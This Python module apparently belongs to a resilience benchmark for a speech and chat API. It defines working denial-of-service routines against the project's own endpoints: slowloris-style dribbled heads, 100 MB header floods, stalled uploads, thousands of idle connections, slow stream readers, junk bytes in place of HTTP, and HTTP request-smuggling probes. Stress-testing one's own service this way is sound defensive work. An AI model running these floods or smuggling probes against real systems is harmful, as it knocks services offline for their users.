"""Attacks below a whole request: heads, bodies that stall, connections, readers that stall."""

import asyncio
import json
import random
import resource
from itertools import cycle

from benchmarks.hostile.attacker import Attacker, attack

PIECE = b"x" * (64 << 10)
MIB = 1 << 20
UPLOADS = ("/stt", "/voices", "/audio/verify", "/openai/v1/audio/transcriptions")
TEXTS = (
    "/tts-synthesize",
    "/tts-stream",
    "/v1/chat/completions",
    "/openai/v1/audio/speech",
    "/tts/v1/voice",
    "/tts/v1/voice:stream",
)
LONG_TEXT = "It was a long day, and the evening would be longer still. " * 80
PUBLIC_POSTS = ("/auth/signup", "/auth/login")
IDLE_CONNECTIONS = 10_000
OTHER_FILES = 500  # of an attacking process


@attack(cheap=True)
async def slow_heads(attacker: Attacker) -> None:
    """300 connections that send a byte of a request's head a second (slowloris)."""

    async def dribble(_: int) -> None:
        async with attacker.raw() as connection:
            for byte in attacker.head("GET", "/plans", X_Filler="y" * 1000):
                await connection.send(bytes([byte]))
                await asyncio.sleep(1)

    await attacker.many(300, dribble)


@attack("H2")
async def many_headers(attacker: Attacker) -> None:
    """80 MB of headers: 400,000 of them in one request, on 4 connections, without a key."""
    headers = b"".join(b"X-%06d: %b\r\n" % (number, b"z" * 180) for number in range(400))

    async def send(_: int) -> None:
        async with attacker.raw() as connection:
            await connection.send(attacker.head("GET", "/plans")[:-2])
            for _ in range(1000):
                await connection.send(headers)
            await connection.closed()

    await attacker.many(4, send)


@attack("H2", cheap=True)
async def huge_header(attacker: Attacker) -> None:
    """One header of 100 MB in pieces of 64 KiB, on 2 connections, without a key."""

    async def send(_: int) -> None:
        async with attacker.raw() as connection:
            await connection.send(attacker.head("GET", "/plans")[:-2] + b"X-Huge: ")
            for _ in range(100 * MIB // len(PIECE)):
                await connection.send(PIECE)
            await connection.closed()

    await attacker.many(2, send)


@attack("H2")
async def long_addresses(attacker: Attacker) -> None:
    """URLs and query strings of 20 MB, on 4 connections."""

    async def send(number: int) -> None:
        async with attacker.raw() as connection:
            await connection.send(b"GET /plans?" if number % 2 else b"GET /")
            for _ in range(20 * MIB // len(PIECE)):
                await connection.send(PIECE)
            await connection.closed()

    await attacker.many(4, send)


@attack("H1", cheap=True)
async def stalled_bodies(attacker: Attacker) -> None:
    """Half a body to each route that works, 8 connections a route, all of one free account."""
    key = await attacker.account()
    paths = cycle(
        [(path, "application/json") for path in TEXTS]
        + [(path, "multipart/form-data; boundary=aaaaaaaaaa") for path in UPLOADS]
    )

    async def stall(_: int) -> None:
        path, kind = next(paths)
        async with attacker.raw() as connection:
            head = attacker.head("POST", path, key, Content_Type=kind, Content_Length=1000)
            await connection.send(head + b'{"text": "')
            await connection.closed()

    await attacker.many(8 * (len(TEXTS) + len(UPLOADS)), stall)


@attack("H1")
async def stalled_sign_ups(attacker: Attacker) -> None:
    """Half a body to /auth/signup and /auth/login from 2,500 connections without a key."""
    addresses = [attacker.new_address() for _ in range(20)]

    async def stall(number: int) -> None:
        path = PUBLIC_POSTS[number % 2]
        async with attacker.raw(addresses[number % len(addresses)]) as connection:
            head = attacker.head("POST", path, Content_Type="application/json", Content_Length=1000)
            await connection.send(head + b'{"email": "')
            await connection.closed()

    await attacker.many(2500, stall)


@attack("H1")
async def dripped_bodies(attacker: Attacker) -> None:
    """Bodies of which a byte comes every 2 seconds, so that no idle timeout passes."""
    key = await attacker.account()

    async def drip(number: int) -> None:
        path = TEXTS[number % len(TEXTS)]
        async with attacker.raw() as connection:
            await connection.send(
                attacker.head(
                    "POST", path, key, Content_Type="application/json", Content_Length=5000
                )
            )
            while True:
                await connection.send(b" ")
                await asyncio.sleep(2)

    await attacker.many(60, drip)


@attack("H1")
async def slow_uploads(attacker: Attacker) -> None:
    """24 uploads of 25 MB at 1 Mbit/s to /stt, as phones send them."""
    keys = [await attacker.account() for _ in range(4)]

    async def upload(number: int) -> None:
        kind = "multipart/form-data; boundary=aaaaaaaaaa"
        body = b'--aaaaaaaaaa\r\nContent-Disposition: form-data; name="audio"; filename="a"\r\n\r\n'
        async with attacker.raw() as connection:
            key = keys[number % len(keys)]
            head = attacker.head("POST", "/stt", key, Content_Type=kind, Content_Length=25 * MIB)
            await connection.send(head + body)
            while True:
                await connection.send(PIECE)
                await asyncio.sleep(len(PIECE) * 8 / 1e6)

    await attacker.many(24, upload)


@attack()
async def idle_connections(attacker: Attacker) -> None:
    """10,000 connections of 100 addresses that send nothing, or one request and then nothing."""
    addresses = [attacker.new_address() for _ in range(100)]
    files, _ = resource.getrlimit(resource.RLIMIT_NOFILE)  # the process has raised it
    count = IDLE_CONNECTIONS
    if files != resource.RLIM_INFINITY and files - OTHER_FILES < count:
        count = max(0, files - OTHER_FILES)
        attacker.outcomes[f"failed: {count} connections only"] += 1

    async def wait(number: int) -> None:
        async with attacker.raw(addresses[number % len(addresses)]) as connection:
            if number % 2:
                await connection.send(attacker.head("GET", "/healthz"))
            await connection.closed()

    await attacker.many(count, wait)


@attack()
async def half_closed(attacker: Attacker) -> None:
    """Clients that close their side after a request, in its head, or in its body."""
    key = await attacker.account()
    body = json.dumps({"text": "One sentence.", "output_format": "wav"}).encode()
    head = attacker.head(
        "POST", "/tts-stream", key, Content_Type="application/json", Content_Length=len(body)
    )
    cuts = (head + body, head + body[:9], head[:40], b"")

    async def close(number: int) -> None:
        async with attacker.raw() as connection:
            await connection.send(cuts[number % len(cuts)])
            connection.writer.write_eof()
            await connection.closed()
            await asyncio.sleep(0.1)

    await attacker.many(40, close)


@attack(cheap=True)
async def pipelined_requests(attacker: Attacker) -> None:
    """10,000 requests at once on each of 20 connections that read none of the answers."""
    requests = attacker.head("GET", "/console") * 1000

    async def send(_: int) -> None:
        async with attacker.raw(slow=True) as connection:
            async with asyncio.timeout(30):
                for _ in range(10):
                    await connection.send(requests)
                await asyncio.sleep(30)

    await attacker.many(20, send)


@attack(cheap=True)
async def smuggled_requests(attacker: Attacker) -> None:
    """Requests whose length two servers could read differently: both lengths, bare LF, obs-fold."""
    inner = attacker.head("GET", "/plans")
    host = f"Host: {attacker.target.host}\r\n"
    chunked = "Transfer-Encoding: chunked\r\n"
    probes = [
        f"{method} {rest}".encode() + inner
        for method in ("GET", "POST")
        for rest in (
            f"/plans HTTP/1.1\r\n{host}Content-Length: 4\r\n{chunked}\r\n0\r\n\r\n",
            f"/plans HTTP/1.1\r\n{host}Content-Length: 4\r\nContent-Length: 5\r\n\r\nabcde",
            f"/plans HTTP/1.1\r\n{host}Content-Length: +4\r\n\r\nabcd",
            f"/plans HTTP/1.1\r\n{host}{chunked}\r\n0;ext={'x' * 9000}\r\n\r\n",
            f"/plans HTTP/1.1\r\n{host}Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
            f"/plans HTTP/1.1\r\n{host}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
            f"/plans HTTP/1.1\r\n{host}{chunked}\r\nFFFFFFFFFFFFFFFFF\r\n",
            f"/plans HTTP/1.1\n{host}X: a\n\n",
            f"/plans HTTP/1.1\r\n{host}X: a\r\n  folded\r\n\r\n",
            f"/plans HTTP/1.1\r\n{host}X\0Y: a\r\n\r\n",
            f"http://elsewhere/plans HTTP/1.1\r\n{host}\r\n",
            "/plans HTTP/1.1\r\n\r\n",
        )
    ]

    async def probe(number: int) -> None:
        async with attacker.raw() as connection:
            await connection.send(probes[number % len(probes)])
            async with asyncio.timeout(15):
                await connection.closed()

    await attacker.many(2 * len(probes), probe)


@attack()
async def wrong_lengths(attacker: Attacker) -> None:
    """Bodies shorter or longer than declared, with lengths that are no numbers or 2^63."""
    key = await attacker.account()
    body = b'{"text": "One sentence."}'
    lengths = ("5", "5000", "-1", "0x19", "1e3", "9223372036854775808", "9" * 5000, "25, 25", "")

    async def send(number: int) -> None:
        async with attacker.raw() as connection:
            head = attacker.head(
                "POST",
                "/tts-synthesize",
                key,
                Content_Type="application/json",
                Content_Length=lengths[number % len(lengths)],
            )
            await connection.send(head + body)
            async with asyncio.timeout(15):
                await connection.closed()

    await attacker.many(2 * len(lengths), send)


@attack("M4")
async def slow_stream_readers(attacker: Attacker) -> None:
    """70 readers of WAV streams that take 4 KiB a second, each of 5 minutes of speech."""
    keys = [await attacker.account("enterprise") for _ in range(4)]
    body = json.dumps({"text": LONG_TEXT[:4900], "output_format": "wav"}).encode()

    async def read(number: int) -> None:
        async with attacker.raw(slow=True) as connection:
            head = attacker.head(
                "POST",
                "/tts-stream",
                keys[number % len(keys)],
                Content_Type="application/json",
                Content_Length=len(body),
            )
            await connection.send(head + body)
            await connection.read_slowly(1.0, 4096)

    await attacker.many(70, read)


@attack("M4")
async def readers_above_the_pace(attacker: Attacker) -> None:
    """Readers just above the least pace: of WAV streams 6 KB a second, of whole answers 25 KB."""
    keys = [await attacker.account("enterprise") for _ in range(4)]
    body = json.dumps({"text": LONG_TEXT[:4900], "output_format": "wav"}).encode()

    async def read(number: int) -> None:
        path, pace = (("/tts-stream", 6000), ("/tts-synthesize", 25_000))[number % 2]
        async with attacker.raw(slow=True) as connection:
            key = keys[number // 2 % len(keys)]
            kind, length = "application/json", len(body)
            head = attacker.head("POST", path, key, Content_Type=kind, Content_Length=length)
            await connection.send(head + body)
            await connection.read_slowly(0.2, pace // 5)

    await attacker.many(40, read)


@attack("M4")
async def slow_chat_readers(attacker: Attacker) -> None:
    """40 readers of chat streams that take a byte a second."""
    keys = [await attacker.account("enterprise") for _ in range(4)]
    ask = {"messages": [{"role": "user", "content": "Tell me a long story."}], "max_tokens": 400}
    body = json.dumps(ask).encode()

    async def read(number: int) -> None:
        async with attacker.raw(slow=True) as connection:
            head = attacker.head(
                "POST",
                "/v1/chat/completions",
                keys[number % len(keys)],
                Content_Type="application/json",
                Content_Length=len(body),
            )
            await connection.send(head + body)
            await connection.read_slowly(1.0)

    await attacker.many(40, read)


@attack("M4")
async def slow_page_readers(attacker: Attacker) -> None:
    """200 readers of /openapi.json, /console and speech files that take 64 bytes a second."""
    key = await attacker.account("enterprise")
    body = json.dumps({"text": LONG_TEXT[:600], "output_format": "wav"}).encode()
    speech = attacker.head(
        "POST", "/tts-synthesize", key, Content_Type="application/json", Content_Length=len(body)
    )
    requests = (
        attacker.head("GET", "/openapi.json"),
        attacker.head("GET", "/console"),
        speech + body,
    )

    async def read(number: int) -> None:
        async with attacker.raw(slow=True) as connection:
            await connection.send(requests[min(number % 20, 2)])
            await connection.read_slowly(1.0, 64)

    await attacker.many(200, read)


@attack(cheap=True)
async def junk_in_place_of_http(attacker: Attacker) -> None:
    """Random bytes, a TLS hello, HTTP/2 prefaces and endless lines in place of a request."""
    chance = random.Random(1)
    openings = (
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0" * 4096,
        bytes.fromhex("16030100f4010000f00303") + b"\x5a" * 300,
        b"GET / HTTP/9.9\r\n\r\n",
        b"\r\n" * 50_000,
        b"G" * 200_000,
        b"GET / HTTP/1.1\r\nHost: x\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n\r\n" * 50,
    )

    async def send(number: int) -> None:
        async with attacker.raw() as connection:
            opening = openings[number % len(openings)] if number % 7 else chance.randbytes(100_000)
            await connection.send(opening)
            async with asyncio.timeout(15):
                await connection.closed()

    await attacker.many(30, send)
